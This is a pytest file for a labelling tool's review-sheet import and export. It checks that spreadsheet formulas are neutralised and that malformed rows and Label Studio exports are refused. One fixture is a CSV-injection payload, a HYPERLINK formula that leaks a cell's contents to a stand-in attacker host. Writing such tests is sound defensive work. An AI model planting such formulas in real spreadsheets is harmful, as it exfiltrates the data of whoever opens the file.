"""Review sheets from and for careless or hostile hands: a sheet opened in a spreadsheet runs no
formula and reads back as it was written; conflicting rows, control characters and Label Studio
exports of the wrong shape are refused, naming the file and the rows."""

import csv
import json

import pytest

from upscway.errors import InputError
from upscway.records import Candidate, GoldRow
from upscway.tasks.gold.review import import_reviewed
from upscway.tasks.gold.sheets import CSV_COLUMNS, read_csv, read_label_studio, validate, write_csv
from upscway.taxonomy import load_task

TASK = load_task()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'


def test_formula_leading_cells_are_neutralised_on_export_and_restored_on_import(tmp_path):
    texts = [
        FORMULA + " is a headline",
        "+91 98765 43210 is a number",
        "-5% inflation",
        "@handle said",
        "\tindented",
        "'already quoted",
        "plain text",
    ]
    candidates = [
        Candidate(
            f"c{i}",
            text,
            "https://news.example/a",
            "GS2",
            [0.2] * 5,
            0.2,
            f"h{i}",
            annotator="t",
            title=text,
            date="2026-12-01",
        )
        for i, text in enumerate(texts)
    ]
    sheet = tmp_path / "review.csv"
    write_csv(sheet, candidates, TASK)
    with open(sheet, newline="", encoding="utf-8") as lines:
        raw = list(csv.DictReader(lines))
    for row, text in zip(raw, texts):
        for column in ("text", "title"):
            dangerous = text[0] in "=+-@\t'"
            assert row[column] == ("'" + text if dangerous else text)  # a spreadsheet shows it as text, runs nothing
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in raw for cell in row.values())

    # The reviewer labels the sheet; import reads each text back exactly as it was stored.
    with open(sheet, newline="", encoding="utf-8") as lines:
        labelled = [{**r, "gold_label": "GS2", "annotator": "asha"} for r in csv.DictReader(lines)]
    with open(sheet, "w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(labelled[0]))
        writer.writeheader()
        writer.writerows(labelled)
    assert [r.text for r in read_csv(sheet)] == texts


def test_rows_that_disagree_on_one_chunk_and_annotator_are_refused_with_their_lines():
    rows = [
        GoldRow(2, "c1", "", "GS1", "asha"),
        GoldRow(3, "c2", "", "GS2", "asha"),
        GoldRow(4, "c1", "", "GS4", "asha"),
        GoldRow(5, "c1", "", "GS4", "meera"),
        GoldRow(6, "c2", "", "GS2", "asha"),
    ]
    valid, errors = validate(rows, TASK, {"c1": "a", "c2": "b"})
    assert [r.line for r in valid] == [3, 5]  # c2's repeated row counts once; meera's own label stands
    assert [line for line, _ in errors] == [2, 4]
    assert "line 2: GS1, line 4: GS4" in dict(errors)[2] and "annotator 'asha'" in dict(errors)[4]


@pytest.mark.parametrize(
    "text", ["A new paragraph\x00 with a NUL.", "Bell \x07 rings.", "Escape \x1b[31m codes.", "DEL \x7f."]
)
def test_control_characters_in_a_new_chunk_are_refused(text):
    valid, errors = validate([GoldRow(2, "", text, "GS1", "asha")], TASK, {})
    assert valid == [] and "control character U+00" in errors[0][1]
    ok, none = validate([GoldRow(2, "", "Tabs\tand\nline ends\r\nare text.", "GS1", "asha")], TASK, {})
    assert none == [] and len(ok) == 1


@pytest.mark.parametrize("skip_invalid", [False, True])
def test_a_sheet_whose_header_lost_cells_is_refused_naming_the_line_and_nothing_is_imported(
    store, tmp_path, skip_invalid
):
    """Its header lost four cells while the rows kept all 13: read by name, every value shifts
    left, the teacher's label lands in gold_label and its probabilities in annotator."""
    candidates = [
        Candidate(
            "",
            f"Paragraph {i} on the monsoon session.",
            "https://news.example/a",
            "GS2",
            [0.2] * 5,
            0.2,
            f"h{i}",
            annotator="teacher-x",
            title="A title",
            date="2026-12-01",
        )
        for i in range(3)
    ]
    sheet = tmp_path / "review.csv"
    write_csv(sheet, candidates, TASK, "random", 0.5)
    rows = sheet.read_text(encoding="utf-8").splitlines(keepends=True)[1:]
    lost = [c for c in CSV_COLUMNS if c not in ("title", "source_url", "sampling", "sampling_probability")]
    sheet.write_text(",".join(lost) + "\r\n" + "".join(rows), encoding="utf-8")

    with pytest.raises(
        InputError, match=r"review.csv: line 2 has 13 cells, the header 9 \(and 2 more lines\); .* nothing imported"
    ):
        import_reviewed(store, TASK, sheet, None, skip_invalid, "minilm")
    with store.reader() as conn:
        assert conn.execute("SELECT count(*) FROM gold_labels").fetchone()[0] == 0


@pytest.mark.parametrize(
    "tasks, where",
    [
        ([{"data": {"chunk_id": "c1"}, "annotations": "GS1"}], "task 1 .*annotations"),
        ([{"data": {"chunk_id": "c1"}, "annotations": []}, {"data": "c2", "annotations": []}], "task 2 .*data"),
        ([{"data": {}, "annotations": [{"result": [{"value": {"choices": "GS1"}}]}]}], "task 1 .*choices"),
        ([7], "task 1"),
    ],
)
def test_a_label_studio_export_of_the_wrong_shape_names_the_file_and_the_first_bad_task(tmp_path, tasks, where):
    path = tmp_path / "export.json"
    path.write_text(json.dumps(tasks))
    with pytest.raises(InputError, match=rf"export.json: {where}"):
        read_label_studio(path)


def test_absurd_nesting_is_an_input_error(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(InputError, match="deep.json"):
        read_label_studio(path)
    nested = tmp_path / "nested.json"
    nested.write_text(
        json.dumps([{"data": {"chunk_id": "c"}, "annotations": [{"completed_by": {"email": {"x": [[[]]]}}}]}])
    )
    with pytest.raises(InputError, match="nested.json: task 1"):
        read_label_studio(nested)


@pytest.mark.parametrize(
    "sampling, probability, words",
    [
        ("random", None, "sampling_probability is empty"),
        ("random", 1.5, "not a probability"),
        ("random", float("nan"), "not a probability"),
        ("convenience", None, "sampling 'convenience' is not one of"),
    ],
)
def test_how_a_row_was_sampled_must_be_known_and_a_random_draw_needs_its_chance(sampling, probability, words):
    row = GoldRow(2, "c1", "", "GS1", "asha", sampling=sampling, sampling_probability=probability)
    valid, errors = validate([row], TASK, {"c1": "a"})
    assert valid == [] and words in errors[0][1]
    drawn = GoldRow(2, "c1", "", "GS1", "asha", sampling="random", sampling_probability=0.01)
    authored = GoldRow(3, "", "A paragraph written for review.", "GS1", "asha")
    valid, errors = validate([drawn, authored], TASK, {"c1": "a"})
    assert errors == [] and [r.sampling for r in valid] == ["random", "authored"]
